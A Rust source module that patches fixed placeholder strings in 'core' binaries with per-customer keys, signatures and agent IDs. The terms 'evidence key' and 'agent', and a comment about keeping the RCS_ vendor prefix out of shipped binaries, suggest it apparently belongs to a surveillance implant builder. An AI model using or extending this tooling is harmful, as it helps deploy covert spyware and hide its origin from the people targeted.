//! Marker definitions and payload rules for core templates.
//!
//! Each template carries fixed textual placeholders. At build time every
//! placeholder is overwritten with per-customer material of exactly the
//! same length:
//!
//! | Marker        | Payload                                      | Length |
//! |---------------|----------------------------------------------|--------|
//! | Evidence key  | md5(factory log key) + 16 random bytes       | 32     |
//! | Config key    | md5(factory config key) + 16 random bytes    | 32     |
//! | Signature     | md5(agent signature) + 16 random bytes       | 32     |
//! | Agent ID      | factory ident, first 4 chars -> random hex   | 14     |
//! | Demo          | 24 random bytes, untouched for demo builds   | 24     |

use md5::{Digest, Md5};
use rand::RngCore;
use std::fmt;

use crate::error::{BuildError, Result};
use crate::patch::{self, PatchError};

/// Size of the digest that prefixes keyed payloads.
pub const DIGEST_LEN: usize = 16;

/// Width of the identifier prefix replaced by random hex.
pub const IDENT_PREFIX_LEN: usize = 4;

/// A placeholder inside a core template.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Marker {
    EvidenceKey,
    ConfigKey,
    Signature,
    AgentId,
    Demo,
}

impl Marker {
    /// All markers, in patch order.
    pub const ALL: [Marker; 5] = [
        Marker::EvidenceKey,
        Marker::ConfigKey,
        Marker::Signature,
        Marker::AgentId,
        Marker::Demo,
    ];

    /// Literal byte sequence embedded in the template.
    pub fn pattern(self) -> &'static [u8] {
        match self {
            Marker::EvidenceKey => b"3j9WmmDgBqyU270FTid3719g64bP4s52",
            Marker::ConfigKey => b"Adf5V57gQtyi90wUhpb8Neg56756j87R",
            Marker::Signature => b"f7Hk0f5usd04apdvqw13F5ed25soV5eD",
            Marker::AgentId => b"av3pVck1gb4eR2",
            Marker::Demo => b"hxVtdxJ/Z8LvK3ULSnKRUmLE",
        }
    }

    /// Length of the patched region.
    pub fn width(self) -> usize {
        self.pattern().len()
    }

    fn label(self) -> &'static str {
        match self {
            Marker::EvidenceKey => "Evidence key",
            Marker::ConfigKey => "Config key",
            Marker::Signature => "Signature",
            Marker::AgentId => "Agent ID",
            Marker::Demo => "Demo",
        }
    }
}

impl fmt::Display for Marker {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

/// Secrets that drive the keyed markers.
#[derive(Debug, Clone)]
pub struct CoreSecrets {
    pub log_key: String,
    pub conf_key: String,
    pub signature: String,
    pub ident: String,
}

fn random_bytes(len: usize) -> Vec<u8> {
    let mut buf = vec![0u8; len];
    rand::thread_rng().fill_bytes(&mut buf);
    buf
}

/// `md5(secret)` followed by random padding up to the marker length.
pub fn keyed_payload(marker: Marker, secret: &str) -> Result<Vec<u8>> {
    if secret.is_empty() {
        return Err(BuildError::CryptoInputMissing(marker));
    }

    let mut payload = Md5::digest(secret.as_bytes()).to_vec();
    let pad = marker.width().saturating_sub(DIGEST_LEN);
    payload.extend(random_bytes(pad));
    Ok(payload)
}

/// Factory identifier with its prefix swapped for random hex.
///
/// Keeps the vendor prefix (e.g. `RCS_`) out of the shipped binary.
pub fn agent_id_payload(ident: &str) -> Result<Vec<u8>> {
    if ident.len() <= IDENT_PREFIX_LEN || !ident.is_char_boundary(IDENT_PREFIX_LEN) {
        return Err(BuildError::CryptoInputMissing(Marker::AgentId));
    }

    let prefix = hex::encode(random_bytes(IDENT_PREFIX_LEN / 2));
    Ok(format!("{}{}", prefix, &ident[IDENT_PREFIX_LEN..]).into_bytes())
}

/// Fresh random bytes for the demo marker.
pub fn demo_payload() -> Vec<u8> {
    random_bytes(Marker::Demo.width())
}

/// Patch one marker, translating patcher failures into marker errors.
pub fn apply(content: &mut [u8], marker: Marker, payload: &[u8]) -> Result<usize> {
    patch::replace(content, marker.pattern(), payload).map_err(|e| match e {
        PatchError::NotFound => BuildError::MarkerNotFound(marker),
        PatchError::Ambiguous(n) => BuildError::MarkerAmbiguous(marker, n),
        PatchError::LengthMismatch { pattern, payload } => BuildError::PayloadLength {
            marker,
            expected: pattern,
            actual: payload,
        },
    })
}

/// Patch every marker of a core image in place.
///
/// The demo marker is left alone when `demo` is set.
pub fn patch_core(content: &mut [u8], secrets: &CoreSecrets, demo: bool) -> Result<()> {
    apply(
        content,
        Marker::EvidenceKey,
        &keyed_payload(Marker::EvidenceKey, &secrets.log_key)?,
    )?;
    apply(
        content,
        Marker::ConfigKey,
        &keyed_payload(Marker::ConfigKey, &secrets.conf_key)?,
    )?;
    apply(
        content,
        Marker::Signature,
        &keyed_payload(Marker::Signature, &secrets.signature)?,
    )?;
    apply(content, Marker::AgentId, &agent_id_payload(&secrets.ident)?)?;

    if !demo {
        apply(content, Marker::Demo, &demo_payload())?;
    }
    Ok(())
}
